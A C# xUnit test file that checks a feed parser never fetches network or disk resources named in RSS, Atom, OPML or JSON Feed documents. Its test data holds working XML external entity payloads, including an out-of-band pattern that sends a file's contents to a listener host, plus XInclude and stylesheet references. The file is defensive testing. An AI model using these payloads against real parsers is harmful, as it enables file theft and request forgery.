using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using Aggregator.Core.Normalizing;
using Aggregator.Core.Parsing;
using Aggregator.Testing;
using Xunit;

namespace Aggregator.Core.Tests.Parsing;

/// <summary>Documents that ask the parser to fetch something: from the network, from the disk. It never does.</summary>
public sealed class ParserIsolationTests
{
    private const string Body = "<rss version=\"2.0\"><channel><title>t</title><item><title>a&x;b</title><description>c&x;d</description></item></channel></rss>";

    private static readonly JsonSerializerOptions Readable = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private static readonly ParseContext Context = new() { FetchedAt = new DateTimeOffset(2026, 9, 5, 12, 0, 0, TimeSpan.Zero), BaseUrl = new Uri("https://example.org/feed") };

    /// <summary>WHERE stands for an address on the network or of a file.</summary>
    public static TheoryData<string> Documents =>
    [
        "<!DOCTYPE rss [<!ENTITY x SYSTEM \"WHERE\">]>" + Body,
        "<!DOCTYPE rss [<!ENTITY x PUBLIC \"-//x//y\" 'WHERE'>]>" + Body,
        "<!DOCTYPE rss SYSTEM \"WHERE\">" + Body,
        "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"WHERE\">" + Body,
        "<!DOCTYPE rss PUBLIC \"-//x//y\" \"WHERE\" [<!ENTITY x \"y\">]>" + Body,
        "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"WHERE\"> %p;]>" + Body,
        "<!DOCTYPE rss [<!ENTITY % p SYSTEM \"WHERE\"><!ENTITY % q \"<!ENTITY x SYSTEM 'http://LISTENER/?%p;'>\"> %q;]>" + Body,
        "<!DOCTYPE rss [<!ENTITY x SYSTEM \"WHERE\"><!ENTITY y \"&x;&x;\">]>" + Body.Replace("&x;", "&y;", StringComparison.Ordinal),
        "<!DOCTYPE rss [<!NOTATION n SYSTEM \"WHERE\"><!ENTITY x SYSTEM \"WHERE\" NDATA n>]>" + Body,
        "<?xml-stylesheet type=\"text/xsl\" href=\"WHERE\"?>" + Body,
        "<rss version=\"2.0\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><channel><title>t</title><item><title>a</title><description><xi:include href=\"WHERE\" parse=\"text\"/></description></item></channel></rss>",
        "<feed xmlns=\"http://www.w3.org/2005/Atom\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.w3.org/2005/Atom WHERE\"><title>t</title><entry><id>1</id><title>a</title><content type=\"text/html\" src=\"WHERE\"/></entry></feed>",
        "<opml><head><title>t</title></head><body><outline text=\"a\" type=\"include\" url=\"WHERE\"/><outline text=\"b\" xmlUrl=\"http://example.org/feed\"/></body></opml>",
        "<!DOCTYPE opml [<!ENTITY x SYSTEM \"WHERE\">]><opml><head><title>&x;</title></head><body><outline text=\"&x;\" xmlUrl=\"http://example.org/feed\"/></body></opml>",
        "{\"version\":\"https://jsonfeed.org/version/1\",\"title\":\"t\",\"next_url\":\"WHERE\",\"items\":[{\"id\":\"1\",\"external_url\":\"WHERE\",\"content_html\":\"<link rel=stylesheet href='WHERE'><img src='WHERE'>\"}]}",
    ];

    [Theory]
    [MemberData(nameof(Documents))]
    public void Fetches_nothing_from_the_network_or_the_disk_whatever_a_document_says(string document)
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var address = listener.LocalEndpoint.ToString()!;
        var secret = "secret-" + Guid.NewGuid().ToString("N");
        using var folder = new TemporaryFolder();
        var file = folder.File("secret");
        File.WriteAllText(file, secret);
        foreach (var where in (string[])[$"http://{address}/x", $"ftp://{address}/x", $"\\\\{address}\\x", "file://" + file, file, "file://localhost" + file])
        {
            var asked = document.Replace("WHERE", document[0] == '{' ? where.Replace("\\", "\\\\", StringComparison.Ordinal) : where, StringComparison.Ordinal).Replace("LISTENER", address, StringComparison.Ordinal);
            // Whole, and broken, so that it is mended.
            foreach (var text in (string[])[asked, asked.Replace("</title>", " & </title>", StringComparison.Ordinal)])
            {
                var bytes = Encoding.UTF8.GetBytes(text);
                var said = "";
                if (FeedParser.Parse(bytes, Context) is ParseResult.Parsed { Feed: var feed })
                    said = JsonSerializer.Serialize(feed, Readable) + JsonSerializer.Serialize(new FeedNormalizer(new ContentSanitizer()).Normalize(feed, new NormalizeContext { FetchedAt = Context.FetchedAt }), Readable);
                else if (OpmlReader.TryRead(bytes, out var list, out _)) said = JsonSerializer.Serialize(list, Readable);
                Assert.NotEqual("", said);
                Assert.DoesNotContain(secret, said, StringComparison.Ordinal);
            }
        }

        Assert.False(listener.Pending(), "Something connected.");
    }
}
